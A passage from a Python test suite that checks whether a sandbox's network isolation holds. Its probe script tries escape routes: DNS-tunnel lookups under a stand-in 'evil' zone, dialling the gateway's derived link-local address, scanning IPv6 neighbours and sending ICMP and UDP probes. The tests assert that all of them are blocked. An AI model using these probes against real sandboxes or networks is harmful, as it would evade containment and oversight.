    blocked = set(tally) <= {"nxdomain", "rcode:REFUSED"}
    out = "leaked" if leaked else ("blocked" if blocked else "mixed")
    return {"outcome": out, "errno": None, "ms": 0, "tally": tally, "leaked": leaked[:3]}

def k_tunnel_gai(count):
    tally, leaked = {}, []
    for i in range(count):
        name = f"{os.urandom(10).hex()}.{i}.g.{EVIL_ZONE}"
        try:
            infos = socket.getaddrinfo(name, 80)
            leaked.append(name)
            tally["resolved"] = tally.get("resolved", 0) + 1
        except socket.gaierror as e:
            key = {socket.EAI_NONAME: "nxdomain"}.get(e.errno, f"gai:{e.errno}")
            tally[key] = tally.get(key, 0) + 1
    out = "leaked" if leaked else ("blocked" if set(tally) <= {"nxdomain"} else "mixed")
    return {"outcome": out, "errno": None, "ms": 0, "tally": tally, "leaked": leaked[:3]}

def gateway_mac():
    with open("/proc/net/arp") as f:
        for line in f.read().splitlines()[1:]:
            cols = line.split()
            if cols and cols[0] == "10.0.2.2" and cols[3] != "00:00:00:00:00:00":
                return cols[3]
    return None

def eui64(mac):
    b = bytearray(int(x, 16) for x in mac.split(":"))
    b[0] ^= 2
    w = [b[0] << 8 | b[1], b[2] << 8 | 0xFF, 0xFE << 8 | b[3], b[4] << 8 | b[5]]
    return "fe80::" + ":".join(f"{x:x}" for x in w)

def neighbours6():
    """The sandbox's IPv6 neighbour table over rtnetlink: [(addr, lladdr, state)]."""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    try:
        s.bind((0, 0))
        req = struct.pack("=LHHLL", 28, 30, 0x301, 1, 0) + struct.pack("=BBHiHBB", socket.AF_INET6,
                                                                        0, 0, 0, 0, 0, 0)
        s.send(req)
        out = []
        while True:
            data = s.recv(65536)
            off = 0
            while off + 16 <= len(data):
                ln, typ = struct.unpack_from("=LH", data, off)
                if typ == 3 or ln < 16:  # NLMSG_DONE
                    return out
                if typ == 2:  # NLMSG_ERROR
                    return out
                if typ == 28:  # RTM_NEWNEIGH
                    state = struct.unpack_from("=H", data, off + 16 + 8)[0]
                    a = off + 16 + 12
                    dst = ll = None
                    while a + 4 <= off + ln:
                        alen, atyp = struct.unpack_from("=HH", data, a)
                        if alen < 4:
                            break
                        val = data[a + 4:a + alen]
                        if atyp == 1 and len(val) == 16:
                            dst = socket.inet_ntop(socket.AF_INET6, val)
                        elif atyp == 2:
                            ll = ":".join(f"{x:02x}" for x in val)
                        a += (alen + 3) & ~3
                    if dst:
                        out.append((dst, ll, state))
                off += (ln + 3) & ~3
    finally:
        s.close()

NUD_FAILED, NUD_INCOMPLETE = 0x20, 0x01

def k_gw_ll(proto, port):
    """The gateway's link-local address, computed (EUI-64 of gw0's MAC, read from the ARP
    table once 10.0.2.2 has been used), dialled on eth0."""
    udp("10.0.2.2", 9, timeout=0.2)  # fills the ARP entry (refused, as the gateway is)
    mac = gateway_mac()
    if not mac:
        return {"outcome": "error", "errno": None, "ms": 0, "detail": "no ARP entry for 10.0.2.2"}
    addr = eui64(mac)
    if proto == "tcp":
        r = tcp(addr, port, timeout=1.0, scope="eth0")
    else:
        r = udp(addr, port, timeout=1.0, scope="eth0")
    entry = [n for n in neighbours6() if n[0] == addr]
    r["addr"], r["mac"] = addr, mac
    r["resolved"] = bool(entry and entry[0][1] and not entry[0][2] & (NUD_FAILED | NUD_INCOMPLETE))
    return r

def k_gw_neigh(ports):
    """Every link-local neighbour the sandbox knows (after the probes above), dialled."""
    known = [n for n in neighbours6() if n[0].startswith("fe80:")]
    # Only neighbours that answered discovery exist; an unanswered guess (fe80::1) is
    # listed as INCOMPLETE/FAILED and dialling it again would only time out.
    found = [n for n in known if n[1] and not n[2] & (NUD_FAILED | NUD_INCOMPLETE)]
    tally, opened = {}, []
    for addr, ll, state in found:
        for port in ports:
            r = tcp(addr, port, timeout=1.0, scope="eth0")
            tally[r["outcome"]] = tally.get(r["outcome"], 0) + 1
            if r["outcome"] == "answered":
                opened.append(f"{addr}:{port}")
    with open("/proc/net/ipv6_route") as f:
        routes = [ln.split()[4] for ln in f if ln.split()[4] != "0" * 32]
    if opened:
        out = "open"
    elif not found:
        out = "none-found"
    else:
        out = "all-refused" if set(tally) <= {"refused", "denied", "unreachable"} else "mixed"
    return {"outcome": out, "errno": None, "ms": 0, "neighbours": known, "tally": tally,
            "next_hops": sorted(set(routes))}

def _cksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF

def k_ping(family, raw, addr):
    t0 = time.monotonic()
    fam = socket.AF_INET if family == 4 else socket.AF_INET6
    proto = 1 if family == 4 else 58
    try:
        s = socket.socket(fam, socket.SOCK_RAW if raw else socket.SOCK_DGRAM, proto)
    except OSError as e:
        return _fail(e, t0)
    s.settimeout(1.0)
    try:
        typ, want = (8, 0) if family == 4 else (128, 129)
        body = struct.pack("!BBHHH", typ, 0, 0, 0x4242, 1) + b"boxy-ping"
        if family == 4:
            body = body[:2] + struct.pack("!H", _cksum(body)) + body[4:]
        s.sendto(body, (addr, 0))
        while True:
            data = s.recv(2048)
            if family == 4 and raw:
                data = data[(data[0] & 0xF) * 4:]
            if data and data[0] == want:
                return {"outcome": "reply", "errno": None, "ms": _ms(t0)}
    except OSError as e:
        r = _fail(e, t0)
        if r["outcome"] == "timeout":
            r["outcome"] = "no-reply"
        return r
    finally:
        s.close()

def k_udp_burst(addrs, port, timeout=0.5):
    """One datagram to each of ADDRS at once; then each socket's error (or silence)."""
    t0 = time.monotonic()
    socks = {}
    results = {}
    for a in addrs:
        fam = socket.AF_INET6 if ":" in a else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.setblocking(False)
        start = time.monotonic()
        try:
            s.connect((a, port))
            s.send(b"boxy-burst")
        except OSError as e:
            results[a] = (_SOCK_OUTCOME.get(ename(e), "error"), _ms(start))
            s.close()
            continue
        socks[s] = (a, start)
    deadline = t0 + timeout
    while socks and time.monotonic() < deadline:
        ready, _, _ = select.select(list(socks), [], [], max(0.0, deadline - time.monotonic()))
        for s in ready:
            a, start = socks.pop(s)
            try:
                s.recv(2048)
                results[a] = ("reply", _ms(start))
            except OSError as e:
                results[a] = (_SOCK_OUTCOME.get(ename(e), "error"), _ms(start))
            s.close()
    for s, (a, start) in socks.items():
        results[a] = ("timeout", _ms(start))
        s.close()
    kinds = {o for o, _ in results.values()}
    if "reply" in kinds:
        out = "reply"
    else:
        out = "all-refused" if kinds <= {"refused", "unreachable", "denied"} else "some-silent"
    return {"outcome": out, "errno": None, "ms": _ms(t0), "results": results,
            "silent": sorted(a for a, (o, _) in results.items() if o == "timeout")}

KINDS = {"tcp": k_tcp, "udp": k_udp, "dns": k_dns, "gai": k_gai, "curl": k_curl,
         "portscan": k_portscan, "tunnel": k_tunnel, "tunnel_gai": k_tunnel_gai,
         "gw_ll": k_gw_ll, "gw_neigh": k_gw_neigh, "ping": k_ping,
         "udp_burst": k_udp_burst}

def run_one(spec):
    try:
        r = KINDS[spec["kind"]](**spec["args"])
    except Exception as e:  # a crashing probe is reported, never silently skipped
        r = {"outcome": "crash", "errno": None, "ms": 0, "detail": repr(e)}
    bad = set(spec["escape_addrs"])
    hit = r["outcome"] in spec["escape"] or bool(bad & set(r.get("addrs", [])))
    return spec["name"], r, hit

SPECS = json.load(open("probes.json"))
for phase in (0, 1, 2):
    batch = [s for s in SPECS if s["phase"] == phase]
    if phase == 1:
        with concurrent.futures.ThreadPoolExecutor(16) as pool:
            results = list(pool.map(run_one, batch))
    else:
        results = [run_one(s) for s in batch]
    for name, r, hit in results:
        report(name, r, escaped=hit)
print("DONE", flush=True)
'''


# --- fixtures ----------------------------------------------------------------------------


def _run_mode(topology: Topology, user: User, mode: str, flags: tuple[str, ...]) -> netutil.NetRun:
    # The run is a snapshot (output and records): its work directory can go at once.
    with netutil.probe_workdir(user, f"net-addresses-{mode}") as wd:
        netutil.install_ca(topology, wd, user)
        (wd / "probes.json").write_text(json.dumps([p.spec() for p in PROBES[mode]]))
        user.chown(wd / "probes.json")
        script = netutil.write_script(wd, user, "probes.py", SCRIPT)
        return netutil.run_probes(topology, user, wd, *flags, cmd=["python3", script], timeout=90)


@pytest.fixture(scope="module")
def public_run(topology: Topology, user: User) -> netutil.NetRun:
    return _run_mode(topology, user, "public", ("--net", "public"))


@pytest.fixture(scope="module")
def allowlist_run(topology: Topology, user: User) -> netutil.NetRun:
    return _run_mode(topology, user, "allowlist", ALLOWLIST_FLAGS)


@pytest.fixture(scope="module")
def v4host_run(topology: Topology, user: User) -> netutil.NetRun:
    """The allowlist run again, on a host that has lost its IPv6 default route while
    boxyd was running (a laptop changing networks). The route comes back as soon as
    the run ends, and that boxyd is stopped: later runs must see a dual-stack host."""
    with netutil.probe_workdir(user, "net-addresses-warm") as wd:
        warm = netutil.run_probes(topology, user, wd, "--net", "public", cmd=["true"])
    assert warm.proc.returncode == 0, f"a plain run failed: {warm.stderr}"
    topology.set_ipv6_default_route(False)
    try:
        return _run_mode(topology, user, "v4host", ALLOWLIST_FLAGS)
    finally:
        topology.set_ipv6_default_route(True)
        netutil.stop_daemon(topology, user)


RUNS = {"public": "public_run", "allowlist": "allowlist_run", "v4host": "v4host_run"}


# --- the tests ---------------------------------------------------------------------------


def _verify(run: netutil.NetRun, probe: Probe) -> None:
    rec = run.probes.get(probe.name)
    assert rec is not None, f"probe {probe.name} never reported\n{run.describe()}"
    escaped = [ln for ln in run.escaped() if ln.split()[1:2] == [probe.name]]
    assert not escaped, f"{escaped}\n{run.describe(probe.name)}"
    assert rec["outcome"] in probe.expect, (
        f"{probe.name}: outcome {rec['outcome']!r}, expected one of {sorted(probe.expect)}\n"
        f"{run.describe(probe.name)}"
    )
    if probe.fast:
        assert rec["ms"] < FAST_MS, (
            f"{probe.name}: refused after {rec['ms']} ms, not at once\n{run.describe(probe.name)}"
        )
    for name in probe.quiet:
        assert run.recorder_hits(name) == 0, (
            f"recorder {name} saw {run.recorder_hits(name)} packets: {run.recorder_events[:5]}"
        )
    for cidr in probe.ranges:
        assert run.range_hits(cidr) == 0, f"{run.range_hits(cidr)} packets reached {cidr}"
    if probe.check is not None:
        try:
            probe.check(rec, run)
        except AssertionError as e:
            raise AssertionError(f"{probe.name}: {e}\n{run.describe(probe.name)}") from None


def _whole_run(run: netutil.NetRun, mode: str) -> None:
    assert not run.escaped(), f"{run.escaped()}\n{run.describe()}"
    assert run.proc.returncode == 0 and "DONE" in run.stdout.splitlines(), run.describe()
    missing = [p.name for p in PROBES[mode] if p.name not in run.probes]
    assert not missing, f"probes that never reported: {missing}\n{run.describe()}"


def _nothing_special_reached(run: netutil.NetRun) -> None:
    """Every packet that reached the fake internet went to a public server; nothing
    reached the host's own services; nothing tried to leave the topology."""
    net = run.net_counters
    assert net["total"] == net["public"], (
        f"{net['total'] - net['public']} packets reached non-public addresses: "
        f"{ {k: v for k, v in net.items() if v and k not in ('total', 'public')} }"
    )
    assert not any(run.host_counters.values()), f"host services reached: {run.host_counters}"
    assert net["leak"] == 0 and run.host_counters.get("leak", 0) == 0


@pytest.mark.parametrize("probe", PROBES["public"], ids=lambda p: p.name)
def test_public(public_run: netutil.NetRun, probe: Probe) -> None:
    _verify(public_run, probe)


@pytest.mark.parametrize("probe", PROBES["allowlist"], ids=lambda p: p.name)
def test_allowlist(allowlist_run: netutil.NetRun, probe: Probe) -> None:
    _verify(allowlist_run, probe)


@pytest.mark.parametrize("probe", PROBES["v4host"], ids=lambda p: p.name)
def test_v4_only_host(v4host_run: netutil.NetRun, probe: Probe) -> None:
    _verify(v4host_run, probe)


@pytest.mark.parametrize("mode", ["public", "allowlist", "v4host"])
def test_run_complete_and_nothing_escaped(mode: str, request: pytest.FixtureRequest) -> None:
    _whole_run(request.getfixturevalue(RUNS[mode]), mode)


@pytest.mark.parametrize("mode", ["public", "allowlist"])
def test_nothing_reached_special_addresses(mode: str, request: pytest.FixtureRequest) -> None:
    _nothing_special_reached(request.getfixturevalue(RUNS[mode]))
